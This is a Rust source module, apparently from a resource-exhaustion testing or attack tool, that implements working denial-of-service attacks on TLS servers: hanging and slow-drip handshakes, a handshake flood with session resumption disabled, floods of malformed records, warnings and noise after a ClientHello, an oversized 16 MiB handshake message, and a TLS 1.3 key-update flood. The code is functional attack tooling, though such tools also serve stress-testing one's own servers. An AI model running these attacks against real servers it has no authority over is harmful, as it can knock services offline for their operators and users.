//! Attacks on the handshake and the record layer of TLS. The honest half of each is rustls, so that what is sent is a
//! real handshake up to the point where it is not.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use futures_util::future::LocalBoxFuture;
use rustls::{ClientConfig, ClientConnection};
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio_rustls::TlsConnector;

use super::{Attack, End, Line, Target};

/// The first flight of a real client.
fn client_hello(config: &Arc<ClientConfig>, target: &Target) -> io::Result<Vec<u8>> {
    let mut client =
        ClientConnection::new(Arc::clone(config), name(target)?).map_err(io::Error::other)?;
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes)?;
    Ok(bytes)
}

fn name(target: &Target) -> io::Result<ServerName<'static>> {
    ServerName::try_from(target.host.clone()).map_err(io::Error::other)
}

/// How far a hanging handshake comes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hang {
    /// Not a byte.
    Silent,
    /// Half of the first message.
    Half,
    /// The first message, and no answer to the answer.
    AfterHello,
    /// A byte of the first message at a time.
    Drip(Duration),
}

/// Hanging handshakes: begun and never ended, to hold the memory of a handshake.
#[derive(Debug)]
pub struct HangingHandshake {
    /// The honest half.
    pub config: Arc<ClientConfig>,
    /// How far it comes.
    pub hang: Hang,
}

impl Attack for HangingHandshake {
    fn name(&self) -> &'static str {
        match self.hang {
            Hang::Silent => "silent handshakes",
            Hang::Half => "half handshakes",
            Hang::AfterHello => "unanswered handshakes",
            Hang::Drip(_) => "slow handshakes",
        }
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let hello = client_hello(&self.config, target)?;
            line.seen.count(1);
            match self.hang {
                Hang::Silent => {}
                Hang::Half => {
                    line.send(hello.get(..hello.len() / 2).unwrap_or(&hello))
                        .await?
                }
                Hang::AfterHello => line.send(&hello).await?,
                Hang::Drip(pause) => line.drip(&hello, pause).await?,
            }
            line.read_until_end().await
        })
    }
}

/// Handshake flood: complete handshakes without resumption, each closed at once; they cost the server a signature each.
#[derive(Debug)]
pub struct HandshakeFlood {
    /// The honest half.
    pub config: Arc<ClientConfig>,
}

impl Attack for HandshakeFlood {
    fn name(&self) -> &'static str {
        "handshake flood"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut fresh = ClientConfig::clone(&self.config);
            fresh.resumption = rustls::client::Resumption::disabled();
            let connector = TlsConnector::from(Arc::new(fresh));
            drop(connector.connect(name(target)?, line.stream).await?);
            line.seen.count(1);
            Ok(End::Spent)
        })
    }
}

/// What comes where a handshake should go on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Junk {
    /// The first message once more: what asking for a renegotiation looks like in clear.
    HelloAgain,
    /// Warnings without end.
    Warnings,
    /// Records without content.
    EmptyRecords,
    /// A handshake message said to be as long as can be, and sent.
    HugeMessage,
    /// Random bytes.
    Noise,
}

/// Junk in handshakes.
#[derive(Debug)]
pub struct HandshakeJunk {
    /// The honest half.
    pub config: Arc<ClientConfig>,
    /// What comes after it.
    pub junk: Junk,
}

impl Attack for HandshakeJunk {
    fn name(&self) -> &'static str {
        match self.junk {
            Junk::HelloAgain => "hello again",
            Junk::Warnings => "TLS warnings",
            Junk::EmptyRecords => "empty TLS records",
            Junk::HugeMessage => "huge handshake message",
            Junk::Noise => "noise in a handshake",
        }
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let hello = client_hello(&self.config, target)?;
            if self.junk != Junk::HugeMessage {
                line.send(&hello).await?;
            }
            let piece = match self.junk {
                Junk::HelloAgain => hello,
                // A record (type, version, length) with a warning: close is none, no_renegotiation is.
                Junk::Warnings => [0x15, 3, 3, 0, 2, 1, 100].repeat(64),
                Junk::EmptyRecords => [0x16, 3, 3, 0, 0].repeat(64),
                Junk::HugeMessage => huge_message(),
                Junk::Noise => {
                    let mut random = fastrand::Rng::with_seed(line.seen.opened());
                    std::iter::repeat_with(|| random.u8(..))
                        .take(4096)
                        .collect()
                }
            };
            for _ in 0..1000 {
                line.seen.count(1);
                line.send_reading(&piece).await?;
            }
            line.read_until_end().await
        })
    }
}

/// A record of the longest length with the start of a first message of 16 MiB. Repeated, its rest is what the next
/// records bring.
fn huge_message() -> Vec<u8> {
    const LENGTH: u16 = 16 * 1024;
    let mut record = vec![0x16, 3, 1];
    record.extend_from_slice(&LENGTH.to_be_bytes());
    record.extend_from_slice(&[1, 0xff, 0xff, 0xff]);
    record.resize(5 + usize::from(LENGTH), 0);
    record
}

/// Key update flood: after an honest handshake, asks for new keys again and again.
#[derive(Debug)]
pub struct KeyUpdateFlood {
    /// The honest half; TLS 1.3.
    pub config: Arc<ClientConfig>,
    /// Updates a connection asks for.
    pub updates: u32,
}

impl Attack for KeyUpdateFlood {
    fn name(&self) -> &'static str {
        "key update flood"
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let connector = TlsConnector::from(Arc::clone(&self.config));
            let mut stream = connector.connect(name(target)?, line.stream).await?;
            for _ in 0..self.updates {
                let session = stream.get_mut().1;
                session.refresh_traffic_keys().map_err(io::Error::other)?;
                stream.flush().await?;
                line.seen.count(1);
            }
            let mut byte = [0];
            match stream.read(&mut byte).await {
                Ok(0) | Err(_) => Ok(End::Ended),
                Ok(_) => Ok(End::Spent),
            }
        })
    }
}
